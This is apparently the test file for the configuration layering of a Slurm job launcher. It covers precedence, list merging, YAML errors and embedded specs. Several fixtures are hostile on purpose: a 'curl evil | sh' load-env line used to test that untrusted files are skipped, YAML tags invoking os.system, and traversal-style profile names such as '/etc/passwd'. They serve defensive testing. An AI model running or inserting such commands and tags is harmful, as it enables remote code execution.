"""The layers: precedence, merging of lists, the source of each value, and what a file can contain."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from slurm_launch.config import files as config_files
from slurm_launch.config.profile_keys import FACTS
from slurm_launch.config.resolve import RESERVED, Resolution, resolve
from slurm_launch.config.starter_file import file_schema, starter_file
from slurm_launch.errors import InvalidSpec
from slurm_launch.spec.launch_spec import LaunchSpec
from slurm_launch.spec.model import options
from slurm_launch.spec.option import EXPERIMENT
from slurm_launch.spec.script_header import EmbeddedSpec

NEEDED = {"exp_name": "test", "command": "python train.py"}


def project(text: str, name: str = "slurm-launch.yaml") -> Path:
    path = Path.cwd() / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def profile(name: str, text: str) -> Path:
    return project(text, f"{os.environ['XDG_CONFIG_HOME']}/slurm-launch/profiles/{name}.yaml")


def machine(text: str) -> Path:
    return project(text, f"{os.environ['XDG_CONFIG_DIRS']}/slurm-launch/slurm-launch.yaml")


def found(flags: dict[str, Any] | None = None, embedded: EmbeddedSpec | None = None) -> Resolution:
    return resolve(flags or {}, os.environ, Path.cwd(), embedded)


def problems(resolution: Resolution) -> list[str]:
    with pytest.raises(InvalidSpec) as caught:
        resolution.spec()
    assert caught.value.exit_code == 2
    return [str(problem) for problem in caught.value.problems]


class TestPrecedence:
    def test_a_higher_layer_overrides_lower_ones(self, monkeypatch: pytest.MonkeyPatch) -> None:
        etc = machine("partition: machine\nqos: machine\naccount: machine\ntime: 1\ncomment: machine")
        site = profile("juwels", "partition: profile\nqos: profile\naccount: profile\ntime: 2")
        here = project("profile: juwels\npartition: project\nqos: project\naccount: project")
        monkeypatch.setenv("SLAUNCH_PARTITION", "env")
        monkeypatch.setenv("SLAUNCH_QOS", "env")
        resolution = found({**NEEDED, "partition": "flag"})
        spec = resolution.spec()
        assert (spec.partition, spec.qos, spec.account, spec.time, spec.comment) == (
            "flag", "env", "project", "2", "machine",
        )  # fmt: skip
        sources = {name: resolution.sources[name] for name in ("partition", "qos", "account", "time", "comment")}
        assert sources == {
            "partition": ("flag --partition",),
            "qos": ("env SLAUNCH_QOS",),
            "account": (f"{here}:4",),
            "time": (f"profile juwels ({site}:4)",),
            "comment": (f"{etc}:5",),
        }
        assert resolution.sources["mem"] == ("built-in",)

    @pytest.mark.parametrize("chosen_by", ["flag", "env", "project"])
    def test_the_profile_can_be_chosen_by(self, chosen_by: str, monkeypatch: pytest.MonkeyPatch) -> None:
        for name in ("flag", "env", "project"):
            profile(name, f"account: from-{name}")
        project("profile: project")
        if chosen_by in ("env", "flag"):
            monkeypatch.setenv("SLAUNCH_PROFILE", "env")
        resolution = found({**NEEDED, **({"profile": "flag"} if chosen_by == "flag" else {})})
        assert resolution.spec().account == f"from-{chosen_by}"

    def test_the_nearest_project_file_in_a_parent_directory(self, monkeypatch: pytest.MonkeyPatch) -> None:
        project("account: far\nqos: far")
        project("account: near", "a/b/slurm-launch.yaml")
        Path("a/b/c/d").mkdir(parents=True)
        monkeypatch.chdir("a/b/c/d")
        spec = found(NEEDED).spec()
        assert (spec.account, spec.qos) == ("near", None)

    def test_config_replaces_the_search(self, monkeypatch: pytest.MonkeyPatch) -> None:
        project("account: here")
        other = project("qos: there", "sub/other.yaml")
        spec = found({**NEEDED, "config": "sub/other.yaml"}).spec()
        assert (spec.account, spec.qos) == (None, "there")
        monkeypatch.setenv("SLAUNCH_CONFIG", str(other))
        assert found(NEEDED).spec().qos == "there"

    def test_a_user_profile_hides_one_of_the_machine(self) -> None:
        project("account: machine", f"{os.environ['XDG_CONFIG_DIRS']}/slurm-launch/profiles/x.yaml")
        assert found({**NEEDED, "profile": "x"}).spec().account == "machine"
        profile("x", "account: user")
        assert found({**NEEDED, "profile": "x"}).spec().account == "user"

    def test_default_directories(self) -> None:
        assert config_files.user_folder({"HOME": "/home/me"}) == Path("/home/me/.config/slurm-launch")
        assert config_files.user_folder({"HOME": "/h", "XDG_CONFIG_HOME": "relative"}) == Path(
            "/h/.config/slurm-launch"
        )
        assert config_files.user_folder({}) is None
        assert config_files.site_folders({}) == [Path("/etc/xdg/slurm-launch")]
        assert config_files.site_folders({"XDG_CONFIG_DIRS": "/a:b:/c"}) == [
            Path("/a/slurm-launch"), Path("/c/slurm-launch"),
        ]  # fmt: skip

    def test_another_users_file_in_a_world_writable_directory_is_skipped(self, monkeypatch: pytest.MonkeyPatch) -> None:
        path = project("load-env: curl evil | sh")
        path.parent.chmod(0o1777)
        monkeypatch.setattr(os, "getuid", lambda: path.stat().st_uid + 1)
        if path.stat().st_uid == 0:
            os.chown(path, 12345, -1)
        resolution = found(NEEDED)
        assert resolution.spec().load_env == ()
        assert str(path) in resolution.warnings[0]
        assert "--config" in resolution.warnings[0]
        assert found({**NEEDED, "config": str(path)}).spec().load_env == ("curl evil | sh",)
        path.parent.chmod(0o755)  # another user's file is fine in a directory that not everyone can write to
        path.chmod(stat.S_IRUSR | stat.S_IWUSR | stat.S_IRGRP | stat.S_IROTH)
        assert found(NEEDED).spec().load_env == ("curl evil | sh",)


class TestMerging:
    def test_lists_append_from_low_to_high_precedence(self, monkeypatch: pytest.MonkeyPatch) -> None:
        site = profile("p", "modules: [gcc]\nray-arg: -v")
        here = project("profile: p\nmodules:\n  - cuda/12.4\n  - gcc\nray-arg: [-v]")
        monkeypatch.setenv("SLAUNCH_MODULES", "nccl 'a b'")
        resolution = found({**NEEDED, "modules": ["last"]})
        assert resolution.spec().modules == ("gcc", "cuda/12.4", "nccl", "a b", "last")
        assert resolution.sources["modules"] == (
            f"profile p ({site}:1)", f"{here}:3", "env SLAUNCH_MODULES", "flag --modules",
        )  # fmt: skip
        assert resolution.spec().ray_arg == ("-v", "-v"), "arguments may repeat"

    def test_mappings_merge_by_key(self, monkeypatch: pytest.MonkeyPatch) -> None:
        profile("p", "env: {A: profile, B: profile}\nsbatch: {gres: nvme:1, exclusive: }")
        project("profile: p\nenv: {B: project, C: project}\nsbatch: [--gres=nvme:2]")
        monkeypatch.setenv("SLAUNCH_ENV", "C='an env' D=1=2")
        spec = found({**NEEDED, "env": ["D=flag", "E="]}).spec()
        assert spec.env == {"A": "profile", "B": "project", "C": "an env", "D": "flag", "E": ""}
        assert spec.sbatch == {"gres": "nvme:2", "exclusive": None}

    @pytest.mark.parametrize("empty", ["[]", "", "null", "~", '""', '[""]'])
    def test_an_empty_list_in_a_file_clears_lower_layers(self, empty: str) -> None:
        profile("p", "modules: [gcc]\nenv: {A: 1}")
        project(f"profile: p\nmodules: {empty}\nenv: {empty if '[' not in empty else '{}'}")
        spec = found({**NEEDED, "modules": ["mine"]}).spec()
        assert spec.modules == ("mine",)
        assert spec.env == {}

    def test_an_empty_item_clears_in_flags_and_variables(self, monkeypatch: pytest.MonkeyPatch) -> None:
        project("modules: [gcc]\nenv: {A: 1}\nload-env: [one]")
        spec = found({**NEEDED, "modules": ["", "mine"], "env": [""]}).spec()
        assert (spec.modules, spec.env) == (("mine",), {})
        monkeypatch.setenv("SLAUNCH_LOAD_ENV", "")
        assert found(NEEDED).spec().load_env == ()

    def test_code_in_a_variable_is_not_split(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("SLAUNCH_LOAD_ENV", "module load cuda && source 'x y'")
        assert found(NEEDED).spec().load_env == ("module load cuda && source 'x y'",)

    def test_null_resets_a_value(self) -> None:
        profile("p", "partition: main\ntime: 10")
        project("profile: p\npartition: ~\ntime:")
        spec = found(NEEDED).spec()
        assert (spec.partition, spec.time) == (None, None)

    def test_an_empty_variable_counts_as_unset(self, monkeypatch: pytest.MonkeyPatch) -> None:
        project("partition: main")
        monkeypatch.setenv("SLAUNCH_PARTITION", "")
        assert found(NEEDED).spec().partition == "main"

    def test_an_alternative_replaces_those_of_lower_layers(self) -> None:
        profile("p", "mem-per-cpu: 4G")
        project("profile: p\nmem: 8G")
        assert (found(NEEDED).spec().mem, found(NEEDED).spec().mem_per_cpu) == ("8G", None)
        spec = found({**NEEDED, "mem_per_gpu": "1G"}).spec()
        assert (spec.mem, spec.mem_per_cpu, spec.mem_per_gpu) == (None, None, "1G")

    def test_two_alternatives_in_one_layer_are_an_error(self) -> None:
        path = project("mem: 4G\nmem-per-cpu: 1G")
        (problem,) = problems(found(NEEDED))
        assert problem.startswith("--mem and --mem-per-cpu are mutually exclusive")
        assert f"at: {path}:1, {path}:2" in problem
        assert len(problems(found({**NEEDED, "time": "soon"}))) == 2, "reported together with other problems"
        assert "--mem and --mem-per-cpu" in problems(found({**NEEDED, "mem_per_gpu": "1G"}))[0], "even if overridden"

    @pytest.mark.parametrize("variable", ["1", "true", "YES", "on"])
    def test_switches_in_the_environment(self, variable: str, monkeypatch: pytest.MonkeyPatch) -> None:
        project("dashboard: no\nexclusive: off")
        monkeypatch.setenv("SLAUNCH_EXCLUSIVE", variable)
        spec = found(NEEDED).spec()
        assert (spec.exclusive, spec.dashboard) == (True, False)
        assert found({**NEEDED, "exclusive": False}).spec().exclusive is False


class TestYaml:
    def test_values_are_used_as_written(self) -> None:
        project(
            "exp-name: 0x10\ncommand: |\n  echo 1\n  echo 2\ntime: 1:30:00\naccount: 0123\npartition: no\n"
            "begin: 2026-01-01\nqos: 1e3\ncomment: 3.10\nreservation: 'null'\n"
            "env: {DEBUG: yes, N: 010, F: 1.0, T: 1:30}\n"
            "modules: [cuda/12.4, 3.10, off]\nsbatch: {gres: 1:30}\nport-range: 20000-20999\nnode: n1"
        )
        spec = found().spec()
        assert (spec.exp_name, spec.command) == ("0x10", "echo 1\necho 2\n")
        assert (spec.time, spec.account, spec.partition, spec.begin) == ("1:30:00", "0123", "no", "2026-01-01")
        assert (spec.qos, spec.comment, spec.reservation) == ("1e3", "3.10", "null")
        assert spec.env == {"DEBUG": "yes", "N": "010", "F": "1.0", "T": "1:30"}
        assert spec.modules == ("cuda/12.4", "3.10", "off")
        assert spec.sbatch == {"gres": "1:30"}

    @pytest.mark.parametrize(
        "time", ["90", "90:00", "1:30:00", "2-12", "2-12:30", "2-12:30:15", "01:30:00", "UNLIMITED"]
    )
    def test_every_time_format(self, time: str) -> None:
        project(f"time: {time}")
        assert found(NEEDED).spec().time == time

    def test_underscores_and_hyphens_are_equivalent(self) -> None:
        project("cpus_per_task: 8\nnum-nodes: 2")
        assert (found(NEEDED).spec().cpus_per_task, found(NEEDED).spec().num_nodes) == (8, 2)

    @pytest.mark.parametrize("text", ["", "# nothing\n", "---\n", "null\n", "{}\n", "\ufeffaccount: a\n"])
    def test_a_file_may_be_empty_or_begin_with_a_byte_order_mark(self, text: str) -> None:
        project(text)
        found(NEEDED).spec()

    def test_anchors_work(self) -> None:
        project("qos: &x high\naccount: *x")
        assert found(NEEDED).spec().account == "high"

    @pytest.mark.parametrize(
        ("text", "line", "expected"),
        [
            ("account: a\ntiem: 1", 2, ("unknown key 'tiem'", "did you mean 'time'?")),
            ("nodes: 3", 1, ("unknown key 'nodes'", "did you mean 'num-nodes'?")),
            ("Partition: x", 1, ("unknown key 'Partition'", "did you mean 'partition'?")),
            ("zzzzqqq: 3", 1, ("unknown key 'zzzzqqq'", "sbatch:")),
            ("time: 1\n\ntime: 2", 3, ("time is set twice", "keep one")),
            ("run-dir: a\nrun_dir: b", 2, ("run_dir is set twice", "keep one")),
            ("config: x", 1, ("config is not allowed in this file", "flag")),
            ("exp-name:\n  - a", 1, ("exp-name takes one value, not a list", "exp-name: VALUE")),
            ("time: {a: b}", 1, ("time takes one value, not a mapping", "time: VALUE")),
            ("modules: {a: b}", 1, ("modules takes a list, not a mapping", "[ONE, TWO]")),
            ("modules:\n- a\n- [b]", 3, ("modules has an item that is not plain text", "do not nest")),
            ("modules:\n- a\n-", 3, ("modules has an empty item", "remove it")),
            ("env: {A: [1]}", 1, ("env has an item that is not plain text", "")),
            ("env:\n  A: 1\n  A: 2", 3, ("env has A twice", "keep one")),
            ("env: {A=B: 1}", 1, ("env has an invalid key: 'A=B'", "KEY: VALUE")),
            ("- a\n- b", 1, ("the file is not a mapping", "partition: main")),
            ("just text", 1, ("the file is not a mapping", "partition: main")),
            ("? [a]\n: b", 1, ("a key is not a plain name", "")),
            ("a: b: c", 1, ("not valid YAML", "quote texts")),
            ("time: 1\n\taccount: x", 2, ("not valid YAML", "spaces, not tabs")),
            ("time: [1\naccount: x", 2, ("not valid YAML", "")),
            ("time: 1\n---\ntime: 2", 2, ("not valid YAML", "")),
            ("a: *nope", 1, ("not valid YAML", "")),
            ("comment: a\ntime: \x01", 2, ("not valid YAML: the character", "remove it")),
            ("template: !!python/object/apply:os.system [id]", 1, ("template takes one value", "")),
            ("comment: !!python/name:os.system x", 1, ("comment has the YAML tag", "plain value")),
            ("<<: {time: 1}", 1, ("unknown key '<<'", "")),
        ],
    )
    def test_an_error_in_a_file_names_the_line(self, text: str, line: int, expected: tuple[str, str]) -> None:
        path = project(text)
        (problem,) = problems(found(NEEDED))
        assert expected[0] in problem
        assert f"{path}:{line}" in problem
        assert expected[1] in problem.partition("hint:")[2]

    def test_all_errors_are_reported_at_once_and_no_false_ones(self) -> None:
        path = project("tiem: 1\nmem: 4XB\nnum-nodes: x")
        texts = problems(found({"time": "soon"}))
        assert [text.splitlines()[0] for text in texts] == [
            "unknown key 'tiem'",
            "--num-nodes is not a whole number: 'x'",
            "--mem is not an amount of memory: '4XB'",
            "--time is not a valid Slurm time: 'soon'",
        ], "exp-name may be in the line that could not be read, so it is not reported as missing"
        assert f"at: {path}:2" in texts[2]
        assert "at: flag --time" in texts[3]

    def test_an_error_in_an_item_names_its_own_line(self) -> None:
        path = project('modules:\n  - gcc\n  - "a\\nb"')
        (problem,) = problems(found({**NEEDED, "modules": ["c"]}))
        assert problem.startswith("--modules contains a line break")
        assert f"at: {path}:3\n" in problem

    def test_not_utf8(self) -> None:
        path = project("")
        path.write_bytes(b"account: a\ncomment: \xff\xfe\n")
        (problem,) = problems(found(NEEDED))
        assert "not UTF-8" in problem
        assert f"{path}:2" in problem

    def test_an_endless_file(self) -> None:
        (problem,) = problems(found({**NEEDED, "config": "/dev/zero"}))
        assert "larger than" in problem

    def test_deep_nesting(self) -> None:
        project("a: " + "[" * 5000)
        (problem,) = problems(found(NEEDED))
        assert "not valid YAML" in problem

    def test_a_directory_for_a_file(self) -> None:
        Path("dir").mkdir()
        (problem,) = problems(found({**NEEDED, "config": "dir"}))
        assert "cannot read the file: Is a directory" in problem

    def test_absent_config(self, monkeypatch: pytest.MonkeyPatch) -> None:
        (problem,) = problems(found({**NEEDED, "config": "nope.yaml"}))
        assert problem.startswith("--config names a file that does not exist: 'nope.yaml'")
        assert "at: flag --config" in problem
        monkeypatch.setenv("SLAUNCH_CONFIG", "nope.yaml")
        assert "at: env SLAUNCH_CONFIG" in problems(found(NEEDED))[0]

    def test_missing_profile(self) -> None:
        (problem,) = problems(found({**NEEDED, "profile": "juwles"}))
        assert problem.startswith("--profile names a profile that does not exist: 'juwles'")
        assert "config init --profile juwles" in problem
        profile("juwels", "")
        profile("leonardo", "")
        (problem,) = problems(found({**NEEDED, "profile": "juwles"}))
        assert "did you mean 'juwels'? available: juwels, leonardo" in problem

    @pytest.mark.parametrize("name", ["../x", "/etc/passwd", ".x", "a\nb"])
    def test_a_profile_is_a_name(self, name: str) -> None:
        assert problems(found({**NEEDED, "profile": name}))[0].startswith("--profile is not a valid profile name")

    def test_a_profile_cannot_choose_a_profile(self) -> None:
        path = profile("a", "profile: b")
        (problem,) = problems(found({**NEEDED, "profile": "a"}))
        assert "profile is not allowed in this file" in problem
        assert f"{path}:1" in problem

    def test_a_template_is_relative_to_its_file(self, monkeypatch: pytest.MonkeyPatch) -> None:
        project("template: tpl/my.j2\nrun-dir: runs\nvenv: venv\nchdir: here")
        Path("a/b").mkdir(parents=True)
        monkeypatch.chdir("a/b")
        spec = found(NEEDED).spec()
        assert spec.template == "../../tpl/my.j2"
        assert (spec.run_dir, spec.venv, spec.chdir) == ("runs", "venv", "here")
        assert found({**NEEDED, "template": "x.j2"}).spec().template == "x.j2"
        project("template: /abs/x.j2")
        assert found(NEEDED).spec().template == "/abs/x.j2"


class TestVariables:
    def test_an_unknown_variable_is_a_warning(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("SLAUNCH_PARTITON", "x")
        monkeypatch.setenv("SLAUNCH_QQQQ", "x")
        first, second = found(NEEDED).warnings
        assert first == "unknown variable SLAUNCH_PARTITON is ignored; did you mean SLAUNCH_PARTITION?"
        assert second == "unknown variable SLAUNCH_QQQQ is ignored"

    def test_variables_set_by_the_script_are_ignored(self, monkeypatch: pytest.MonkeyPatch) -> None:
        for name in RESERVED:
            monkeypatch.setenv(name, "x")
        assert found(NEEDED).warnings == ()

    def test_every_option_has_a_variable(self, monkeypatch: pytest.MonkeyPatch) -> None:
        for name in options():
            monkeypatch.setenv(f"SLAUNCH_{name.upper()}", "")
        assert found(NEEDED).warnings == ()

    def test_unbalanced_quotes(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("SLAUNCH_MODULES", "a 'b")
        (problem,) = problems(found(NEEDED))
        assert problem.startswith("--modules cannot be split")
        assert "at: env SLAUNCH_MODULES" in problem

    def test_an_error_in_a_value_names_its_variable(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("SLAUNCH_EXCLUSIVE", "perhaps")
        monkeypatch.setenv("SLAUNCH_AUTH", "tokn")
        switch, choice = problems(found(NEEDED))
        assert switch.startswith("--exclusive is neither true nor false: 'perhaps'")
        assert "at: env SLAUNCH_EXCLUSIVE" in switch
        assert choice.startswith("--auth has an invalid value: 'tokn'")
        assert "did you mean 'token'? choose from token, off" in choice


class TestEmbedding:
    def test_own_and_site_values_are_separate(self, monkeypatch: pytest.MonkeyPatch) -> None:
        machine("qos: machine\nmodules: [base]")
        profile("p", "account: site\nmodules: [gcc]\nenv: {A: 1}")
        project("profile: p\nmodules: [cuda]\nnum-nodes: 3\nexclusive: true")
        monkeypatch.setenv("SLAUNCH_TIME", "1:30:00")
        resolution = found({**NEEDED, "env": ["B=2"], "dashboard": False})
        assert resolution.own == {
            "profile": "p", "modules": ["cuda"], "num-nodes": 3, "exclusive": True, "time": "1:30:00",
            "exp-name": "test", "command": "python train.py", "env": {"B": "2"}, "dashboard": False,
        }  # fmt: skip
        assert resolution.site == {"qos": "machine", "modules": ["base", "gcc"], "account": "site", "env": {"A": "1"}}

    def round_trip(self, resolution: Resolution) -> EmbeddedSpec:
        return EmbeddedSpec(json.loads(json.dumps(resolution.own)), json.loads(json.dumps(resolution.site)))

    def test_without_a_profile_the_same_spec_comes_back(self) -> None:
        profile("p", "account: site\nmodules: [gcc]\nenv: {A: 1}\nmem-per-cpu: 1G\nsbatch: {gres: nvme}\nload-env: a")
        project("profile: p\nmodules: [cuda]\nenv: {}\nmem: 4G\npartition:\nload-env: ['', b]")
        first = found({**NEEDED, "env": ["B=2=3"]})
        machine("qos: of-this-machine")
        project("account: of-this-directory")
        again = found({}, self.round_trip(first))
        assert again.spec() == first.spec()
        assert (again.own, again.site) == (first.own, first.site)
        assert again.sources["account"] == ("the script (its site)",)

    def test_another_profile_replaces_the_site(self) -> None:
        profile("old", "account: old\nmodules: [old]\nmem: 1G\nload-env: [old]")
        profile("new", "modules: [new]\npartition: new\nmem-per-cpu: 2G\nload-env: [new]\nenv: {N: 1}")
        project("profile: old\nmodules: [mine]\nload-env: ['', mine]\nenv: {}")
        first = found(NEEDED)
        spec = found({"profile": "new"}, self.round_trip(first)).spec()
        assert (spec.account, spec.partition, spec.mem, spec.mem_per_cpu) == (None, "new", None, "2G")
        assert spec.modules == ("new", "mine")
        assert spec.load_env == ("mine",), "the project's reset applies to another site's lines, too"
        assert spec.env == {}
        assert (spec.profile, spec.exp_name) == ("new", "test")

    def test_flags_and_config_win_over_the_script(self) -> None:
        project("qos: not-read")
        other = project("qos: config", "other.yaml")
        script = EmbeddedSpec({"exp-name": "old", "command": "x", "qos": "own", "partition": "own"})
        spec = found({"exp_name": "new"}, script).spec()
        assert (spec.exp_name, spec.qos, spec.partition) == ("new", "own", "own")
        assert found({"config": str(other)}, script).spec().qos == "config"

    def test_a_key_of_a_newer_version(self) -> None:
        (problem,) = problems(found(NEEDED, EmbeddedSpec({"warp": 1})))
        assert "unknown key 'warp'" in problem
        assert "newer slurm-launch" in problem


class TestTexts:
    def uncommented(self, text: str) -> str:
        lines = [line[1:] for line in text.splitlines() if line[:1] == "#" and (line[1].isalpha() or line[1:3] == "  ")]
        assert len(lines) > 40
        return "\n".join(lines)

    # Options that need another one.
    SECOND = (
        *("mem-per", "profile", "idle", "signal:", "array", "sweep-file", "chain", "grow"),
        *("head-cpus", "head-mem", "head-partition", "head-constraint", "worker-group"),
    )

    def test_the_starter_file_is_valid_with_every_option_uncommented(self) -> None:
        text = self.uncommented(starter_file())
        given = yaml.safe_load(text)
        assert set(given) == {name.replace("_", "-") for name, option in options().items() if option.layered}
        text = "\n".join(line for line in text.splitlines() if not line.startswith(self.SECOND))
        project(text)
        spec = found().spec()
        assert (spec.num_nodes, spec.time, spec.env) == (3, "1:30:00", {"OMP_NUM_THREADS": "4"})

    def test_the_unchanged_starter_file_sets_nothing(self) -> None:
        project(starter_file())
        assert found(NEEDED).values == NEEDED

    def test_the_starter_file_of_a_profile(self) -> None:
        text = self.uncommented(starter_file("juwels"))
        assert set(yaml.safe_load(text)) == {
            name.replace("_", "-")
            for name, option in options().items()
            if option.layered and option.group != EXPERIMENT and name != "profile"
        } | {name.replace("_", "-") for name in FACTS}
        assert list(yaml.safe_load(text))[: len(FACTS)] == [name.replace("_", "-") for name in FACTS], "the facts first"
        assert "\n  gpu:\n    time: " in text, "in block style"
        facts = {name.replace("_", "-"): fact.example for name, fact in FACTS.items()}
        assert {**yaml.safe_load(text), "partitions": None}.items() >= {**facts, "partitions": None}.items()
        assert yaml.safe_load(text)["partitions"] == {**facts["partitions"], "cpu": None}
        profile("juwels", "\n".join(line for line in text.splitlines() if not line.startswith(self.SECOND)))
        profile("base", "")
        assert found({**NEEDED, "profile": "juwels"}).spec().partition == "main"

    def test_the_schema_has_every_key_and_needs_none(self) -> None:
        schema = file_schema()
        assert "required" not in schema
        assert schema["additionalProperties"] is False
        names = [name for name, option in options().items() if option.layered]
        assert set(schema["properties"]) == {name.replace("_", "-") for name in [*names, *FACTS]}
        for name, option in options().items():
            if option.layered:
                about = schema["properties"][name.replace("_", "-")]
                assert about["group"] == option.group
                assert about["description"] == option.help
                assert about["title"]
                assert about.get("examples") or about.get("default") is not None, name
        for name, fact in FACTS.items():
            about = schema["properties"][name.replace("_", "-")]
            assert fact.help in about["description"]
            assert about["examples"] == [fact.example]
        partition = schema["properties"]["partitions"]["additionalProperties"]["properties"]
        assert {"time", "max-time", "max-nodes", "max-gpus"} <= set(partition)
        assert not {"partition", "profile", "extends", "partitions"} & set(partition)
        assert schema["properties"]["node-timeout"]["default"] == LaunchSpec.model_fields["node_timeout"].default


def test_yaml_is_not_imported_without_a_file(tmp_path: Path) -> None:
    code = (
        "import sys, os, pathlib; from slurm_launch.config.resolve import resolve;"
        "resolve({'exp_name': 'a', 'command': 'b'}, os.environ, pathlib.Path.cwd()).spec();"
        "sys.exit('yaml' in sys.modules or 'hostlist' in sys.modules)"
    )
    root = str(Path(__file__).parents[2])
    env = {**os.environ, "PYTHONPATH": root}
    assert subprocess.run([sys.executable, "-c", code], env=env, check=False).returncode == 0
    project("account: x")
    assert subprocess.run([sys.executable, "-c", code], env=env, check=False).returncode == 1
